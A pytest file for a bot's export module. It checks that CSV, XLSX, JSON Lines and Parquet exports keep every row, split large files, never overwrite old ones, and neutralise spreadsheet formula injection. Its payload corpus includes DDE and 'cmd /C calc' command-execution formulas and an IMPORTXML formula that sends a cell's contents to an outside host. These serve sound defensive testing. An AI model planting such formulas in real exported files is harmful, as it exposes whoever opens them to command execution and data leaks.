"""Export files read back: every row is there, nothing in them runs, and both formats say the same."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import datetime as dt
import json
import shutil
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bot.exporting import FORMATS, ExportResult, Order, export
from bot.exporting.cells import CUT, LONGEST_CELL, clean, harmless
from bot.exporting.comma import CommaFiles
from bot.exporting.jsonl import JsonLines
from bot.exporting.order import SETS, order_json, read_filters, read_order, sheets_of
from bot.exporting.parquet import NoParquet, ParquetFiles, has_parquet
from bot.exporting.sheets import Page, page_of_words
from bot.exporting.telling import glossary
from bot.exporting.wording import Wording
from bot.exporting.workbook import Workbook
from flows.library import Library
from storage import vocabulary
from storage.database import Database
from storage.export import SHEETS, Column, Sheet, columns_of
from storage.periods import days
from storage.stats import totals
from tests.storage.ledgers import STARTED, Ledger, Person, at, contact, turn, write_down

pytestmark = pytest.mark.anyio

JUNE = days(dt.date(2025, 6, 1), dt.date(2025, 6, 30))
LATE = at("2025-12-01")

_COMMANDS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org","x")',
    'IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
    'WEBSERVICE("http://example.org")',
    'DDE("cmd";"/C calc";"x")',
)
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
_BEFORE = ("", " ", "\t", "\r", "\n", "\0", "\x0b", "\u00a0", "\u200b", "\u200f", "\u2066", "\ufeff")
PAYLOADS = sorted(
    {f"{start}{command}" for start in _STARTS for command in _COMMANDS}
    | {f"{before}{start}1+1" for before in _BEFORE for start in _STARTS}
    | {"\t1", "\r1", "\n1", "\0", "+212612345678", "-1", "@user", "=", "-", '="",=1+1', "=1\r\n=2"}
)
PLAIN = ("", "Agourai", "أكوراي", "12", "'quoted'", "a=b", "a-b", "1 + 1", "«شكرا»", "🙂", "é=1")

LEDGER = Ledger(
    people=[
        Person(1, sex="female", commune="agourai", birth_year=2001),
        Person(2, commune="=1+1"),
        Person(3, is_test=True),
    ],
    contacts=[
        contact(1, "listening", "2025-06-03"),
        contact(2, "orientation", "2025-06-04", channel="mobile"),
    ],
    interactions=[turn(1, "2025-06-03"), turn(2, "2025-06-04", kind="media"), turn(3, "2025-06-04")],
)


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def _book(path: Path) -> Any:
    return openpyxl.load_workbook(path)


@pytest.fixture
async def written(database: Database) -> Database:
    """The ledger above."""
    async with database.write() as tx:
        await write_down(tx, LEDGER)
    return database


def _order(format: str = "csv", language: str = "fr", **changes: Any) -> Order:
    order = Order(SETS["visits"], "csv", language, JUNE, STARTED, LATE)
    return dataclasses.replace(order, format=format, **changes)  # type: ignore[arg-type]  # one of FORMATS


async def _export(
    database: Database, library: Library, path: Path, format: str, language: str = "fr", **changes: Any
) -> tuple[ExportResult, list[tuple[int, int]]]:
    told: list[tuple[int, int]] = []
    order = _order(format, language, **changes)
    result = await export(database, library, order, path, lambda done, total: told.append((done, total)))
    return result, told


NUMBER = Column("number", "number")


def _fill(writer: Any, page: Page, part: Any) -> None:
    writer.open_sheet(page)
    writer.write(part)
    writer.close()


def _names(sheet: Sheet) -> list[str]:
    return [column.name for column in columns_of(sheet)]


def _words(key: str, *header: str) -> Page:
    return page_of_words(key, key, header, header, 0)


def test_a_corpus_of_formulas_is_harmless_in_csv(tmp_path: Path) -> None:
    """Each payload is read back with an apostrophe first and without control characters."""
    assert len(PAYLOADS) >= 50
    path = tmp_path / "payloads.csv"
    _fill(CommaFiles(path), _words("payloads", "=header"), [PAYLOADS])
    rows = _read(path)
    assert len(rows) == len(PAYLOADS) + 1
    assert [row for row in rows if len(row) != 1 or not row[0].startswith("'")] == []
    assert path.read_bytes().startswith(b'\xef\xbb\xbf"\'=header"')
    assert all(line.startswith('"') for line in path.read_text("utf-8-sig").splitlines())


def test_a_corpus_of_formulas_is_text_in_a_workbook(tmp_path: Path) -> None:
    """Each payload is a cell of text; the file holds no formula and no link."""
    path = tmp_path / "payloads.xlsx"
    _fill(Workbook(path, right_to_left=False), _words("payloads", "=header"), [PAYLOADS])
    sheet = _book(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}  # n: a cell that came out empty
    assert [cell for cell in cells if cell.data_type == "n" and cell.value is not None] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    assert [cell.value or "" for cell in cells][1:] == [clean(payload) for payload in PAYLOADS]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_cells_stay_as_they_are(text: str) -> None:
    """Nothing is put before what no spreadsheet would run."""
    assert harmless(text) == clean(text) == text


def test_a_cell_that_is_too_long_is_cut_visibly(tmp_path: Path) -> None:
    """What was cut ends in a mark, and the workbook takes it."""
    path = tmp_path / "long.xlsx"
    part = [["x" * LONGEST_CELL], ["y" * (LONGEST_CELL + 1)]]
    _fill(Workbook(path, right_to_left=False), _words("long", "a", "b"), part)
    whole, cut = next(_book(path).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert whole == "x" * LONGEST_CELL
    assert len(cut) == LONGEST_CELL and cut.endswith(CUT)


def test_a_sheet_that_is_full_goes_on_in_another(tmp_path: Path) -> None:
    """Each part has the header; no row is lost."""
    path = tmp_path / "full.xlsx"
    page = Page("full", "A title that is longer than sheets may have", (NUMBER,), ("number",), (None,))
    _fill(Workbook(path, right_to_left=True, most_rows=4), page, [range(7)])
    sheets = _book(path).worksheets
    values = [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in sheets]
    assert values == [["number", 0, 1, 2], ["number", 3, 4, 5], ["number", 6]]
    assert [sheet.auto_filter.ref for sheet in sheets] == ["A1:A4", "A1:A4", "A1:A2"]
    assert len({sheet.title for sheet in sheets}) == 3


async def test_a_workbook_read_back(written: Database, library: Library, tmp_path: Path) -> None:
    """Three sheets with names in French, real dates, a header that stays, a filter."""
    result, told = await _export(written, library, tmp_path / "june.xlsx", "xlsx")
    assert (result.rows, result.paths) == (4, (tmp_path / "june.xlsx",))
    assert told[0][0] == 0 and told[-1] == (4, 4)
    book = _book(result.paths[0])
    assert book.sheetnames == ["Interactions", "Services rendus", "Explications"]
    contacts = book["Services rendus"]
    header, first, second = (list(row) for row in contacts.iter_rows(values_only=True))
    assert header[:4] == ["Date et heure", "Personne", "Service", "Canal"]
    row = dict(zip(_names("contacts"), first, strict=True))
    assert row["happened_at"] == dt.datetime(2025, 6, 3, 12)  # noqa: DTZ001 - files know no zones
    assert (row["service"], row["outcome"], row["by_staff"]) == ("Écoute", "Information donnée", "Non")
    assert (row["sex"], row["age_band"], row["commune"]) == ("Femme", "18 à 24 ans", "Agourai")
    assert second[_names("contacts").index("commune")] == "=1+1"
    assert all(cell.data_type != "f" for sheet in book for line in sheet.iter_rows() for cell in line)
    assert contacts.freeze_panes == "A2" and contacts.auto_filter.ref == "A1:L3"
    assert contacts.column_dimensions["B"].width > 15
    assert not contacts.sheet_view.rightToLeft


async def test_in_arabic_sheets_are_read_from_the_right(
    written: Database, library: Library, tmp_path: Path
) -> None:
    """All of them, and the names are Arabic."""
    result, _ = await _export(written, library, tmp_path / "june.xlsx", "xlsx", "ar")
    book = _book(result.paths[0])
    assert book.sheetnames == ["التفاعلات", "الخدمات المقدمة", "الشرح"]
    assert all(sheet.sheet_view.rightToLeft for sheet in book)
    assert book["الخدمات المقدمة"]["C2"].value == "الاستماع"


async def test_csv_says_the_same(written: Database, library: Library, tmp_path: Path) -> None:
    """Three files; numbers equal the totals, and the payload in a commune does not run."""
    result, _ = await _export(written, library, tmp_path / "june.csv", "csv")
    assert [path.name for path in result.paths] == ["june.csv", "june-contacts.csv", "june-glossary.csv"]
    turns, contacts, _ = (_read(path) for path in result.paths)
    async with written.read() as tx:
        counted = await totals(tx, JUNE, STARTED, LATE)
    assert (len(turns) - 1, len(contacts) - 1) == (counted.interactions, counted.contacts) == (2, 2)
    assert contacts[1][0] == "2025-06-03 12:00:00"
    assert contacts[2][_names("contacts").index("commune")] == "'=1+1"
    people = {row[1] for row in turns[1:]}
    assert people == {row[1] for row in contacts[1:]} and len(people) == counted.active


@pytest.mark.parametrize("language", ["ar", "ary", "fr", "en"])
def test_the_glossary_explains_every_column_and_code(library: Library, language: str) -> None:
    """Nothing is left without a meaning, and every code has a name of its own in its column."""
    lines = list(glossary(Wording(library, language), _order("csv", language, sheets=SHEETS)))
    assert [line for line in lines if not line[2]] == []
    codes = [line for line in lines if line[1]]
    listed = {
        *vocabulary.SERVICES,
        *vocabulary.OUTCOMES,
        *vocabulary.CHANNELS,
        "ain_taoujdate",
        "staff_reply",
    }
    assert listed <= {line[1] for line in codes}
    assert [line for line in codes if line[1] == line[2]] == []
    assert len({(line[0], line[2]) for line in codes}) == len(codes)


async def test_an_older_file_is_never_written_over(
    written: Database, library: Library, tmp_path: Path
) -> None:
    """Neither by csv nor by xlsx; what was there stays."""
    for format in ("csv", "xlsx"):
        path = tmp_path / f"june.{format}"
        path.write_text("precious")
        with pytest.raises(FileExistsError):
            await _export(written, library, path, format)
        assert path.read_text() == "precious"


async def test_an_export_that_fails_leaves_nothing(
    written: Database, library: Library, tmp_path: Path
) -> None:
    """Half a file would look like a whole one."""
    for format in ("csv", "xlsx", "jsonl"):
        with pytest.raises(RuntimeError):
            await export(written, library, _order(format), tmp_path / "new" / f"june.{format}", _fail)
    assert list((tmp_path / "new").iterdir()) == []
    with pytest.raises(ValueError, match="pdf"):
        await _export(written, library, tmp_path / "june.pdf", "pdf")


def _fail(done: int, total: int) -> None:
    if done:
        raise RuntimeError("the disk is full")


# --- formats


async def test_json_lines_hold_codes(written: Database, library: Library, tmp_path: Path) -> None:
    """One object for each row under the names of columns; moments with their offset."""
    result, _ = await _export(written, library, tmp_path / "june.jsonl", "jsonl", "ar")
    assert [path.name for path in result.paths] == [
        "june.jsonl",
        "june-contacts.jsonl",
        "june-glossary.jsonl",
    ]
    first, second = map(json.loads, result.paths[1].read_text("utf-8").splitlines())
    assert list(first) == _names("contacts")
    assert dt.datetime.fromisoformat(first["happened_at"]) == at("2025-06-03")
    assert (first["service"], first["minutes"], first["commune"]) == ("listening", None, "agourai")
    assert second["commune"] == "=1+1"  # as it is: no program runs it


def test_parquet_says_what_is_missing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the extra it names what to install, and leaves no file."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(NoParquet, match="pip install"):
        ParquetFiles(tmp_path / "june.parquet")
    assert list(tmp_path.glob("*.parquet")) == []


@pytest.mark.skipif(not has_parquet(), reason="pyarrow is not installed: pip install 'wijha[parquet]'")
async def test_parquet_read_back(written: Database, library: Library, tmp_path: Path) -> None:
    """Moments are moments, days are days, numbers are numbers; codes are codes."""
    import pyarrow.parquet

    result, _ = await _export(written, library, tmp_path / "june.parquet", "parquet", sheets=SHEETS)
    tables = {path.stem: pyarrow.parquet.read_table(path) for path in result.paths}
    contacts = tables["june-contacts"].to_pylist()
    assert contacts[0]["happened_at"] == at("2025-06-03") and contacts[0]["service"] == "listening"
    figures = {
        row["indicator"]: row["value"] for row in tables["june-indicators"].to_pylist() if not row["split"]
    }
    assert figures["B2"] == len(contacts) == 2


@pytest.mark.parametrize("format", ["csv", "jsonl", "xlsx"])
async def test_every_sheet_in_every_format(
    written: Database, library: Library, tmp_path: Path, format: str
) -> None:
    """All sheets are there, also empty ones, with names or without; nothing is a formula."""
    for identified in (False, True):
        path = tmp_path / f"all-{identified}.{format}"
        named = {"identified": identified, "reason": "a call to each of them" * identified}
        result, _ = await _export(written, library, path, format, "ar", sheets=SHEETS, **named)
        if format == "xlsx":
            book = _book(result.paths[0])
            assert len(book.sheetnames) == len(SHEETS) + 1 + identified
            assert [
                c for sheet in book for line in sheet.iter_rows() for c in line if c.data_type == "f"
            ] == []
        else:
            empty = 0 if format == "csv" else len(SHEETS) - 4  # lines without a header, and nothing to send
            assert len(result.paths) == len(SHEETS) + 1 + identified - empty


async def test_a_file_with_names_says_so_first(written: Database, library: Library, tmp_path: Path) -> None:
    """The first sheet of it is a notice with the reason."""
    named = {"sheets": SETS["people"], "identified": True, "reason": "calls for the July session"}
    result, _ = await _export(written, library, tmp_path / "named.xlsx", "xlsx", "fr", **named)
    book = _book(result.paths[0])
    assert book.sheetnames[:2] == ["Avertissement", "Bénéficiaires"]
    notice = [cell for row in book.worksheets[0].iter_rows(values_only=True) for cell in row]
    assert "calls for the July session" in notice
    with pytest.raises(ValueError, match="reason"):
        _order("xlsx", identified=True)


# --- sizes


def _numbers(count: int) -> list[list[str]]:
    return [[f"{hash((number, 'x')) % 10**15:015d}" for number in range(count)] for _ in range(3)]


def test_lines_go_on_in_files_that_open_alone(tmp_path: Path) -> None:
    """Each part is smaller than it may be and begins with the header; all rows are there, in order."""
    most, part = 1_300_000, _numbers(2000)
    files = CommaFiles(tmp_path / "big.csv", most)
    files.open_sheet(_words("big", "a", "b", "c"))
    for _ in range(20):
        files.write(part)
    files.close()
    assert len(files.paths) > 2 and max(path.stat().st_size for path in files.paths) < most
    rows = [_read(path) for path in files.paths]
    assert all(one[0] == ["a", "b", "c"] for one in rows)
    assert [row for one in rows for row in one[1:]] == [list(row) for row in zip(*part, strict=True)] * 20


def test_what_would_be_large_is_packed(tmp_path: Path) -> None:
    """A sheet of which many rows are announced comes as zip, and the zip holds the whole of it."""
    files = JsonLines(tmp_path / "big.jsonl", 10_000_000)
    files.open_sheet(dataclasses.replace(_words("big", "a", "b", "c"), rows=10_000_000))
    files.write(_numbers(2000))
    files.close()
    assert [path.name for path in files.paths] == ["big.jsonl.zip"]
    with zipfile.ZipFile(files.paths[0]) as pack:
        assert pack.namelist() == ["big.jsonl"]
        assert len(pack.read("big.jsonl").splitlines()) == 2000


def test_a_workbook_goes_on_in_another_with_its_notice(tmp_path: Path) -> None:
    """Each part is smaller than it may be, opens alone, and says first that it names people."""
    most, part = 1_800_000, _numbers(2000)
    book = Workbook(tmp_path / "big.xlsx", right_to_left=True, most_bytes=most)
    book.open_sheet(_words("notice", "mind", ""))
    book.write([["names"], ["delete it"]])
    book.open_sheet(_words("big", "a", "b", "c"))
    for _ in range(20):
        book.write(part)
    book.close()
    assert len(book.paths) > 1 and max(path.stat().st_size for path in book.paths) < most
    sheets = [_book(path).worksheets for path in book.paths]
    assert all(one[0].title == "notice" for one in sheets)
    assert sum(one[1].max_row - 1 for one in sheets) == 40_000


# --- other programs


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
async def test_libreoffice_reads_every_cell_as_text(tmp_path: Path) -> None:
    """200 payloads and more come out of another program as they went in: it calculated none of them."""
    assert len(PAYLOADS) >= 200
    path = tmp_path / "payloads.xlsx"
    _fill(Workbook(path, right_to_left=True), _words("payloads", "header"), [PAYLOADS])
    process = await asyncio.create_subprocess_exec(
        "soffice",
        f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
        *("--headless", "--convert-to", "ods", "--outdir", str(tmp_path), str(path)),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    assert await process.wait() == 0
    with zipfile.ZipFile(tmp_path / "payloads.ods") as pack:
        content = pack.read("content.xml").decode()
    assert "table:formula" not in content and 'office:value-type="float"' not in content
    assert content.count('office:value-type="string"') >= len([one for one in PAYLOADS if clean(one).strip()])


# --- orders


def test_an_order_goes_through_json() -> None:
    """The process that makes it knows what was asked."""
    filters = read_filters("sex=female commune=agourai,bitit")
    order = _order("xlsx", sheets=SHEETS, filters=filters, identified=True, reason="أتصل بهم", most_bytes=7)
    assert read_order(order_json(order)) == order


@pytest.mark.parametrize("words", ["sex", "sex=", "shoe=42", "sex=female sex=male"])
def test_a_filter_that_makes_no_sense_is_refused(words: str) -> None:
    """The fault says what would make sense."""
    with pytest.raises(ValueError, match="sex=female"):
        read_filters(words)


def test_sheets_are_asked_for_alone_or_together() -> None:
    """By the name of one or of a set."""
    assert sheets_of("visits") == ("interactions", "contacts") and sheets_of("jobs") == ("jobs",)
    assert set(sheets_of("all")) == set(SHEETS) == {one for name in SETS for one in SETS[name]}
    with pytest.raises(ValueError, match="figures"):
        sheets_of("weather")
    assert "parquet" in FORMATS
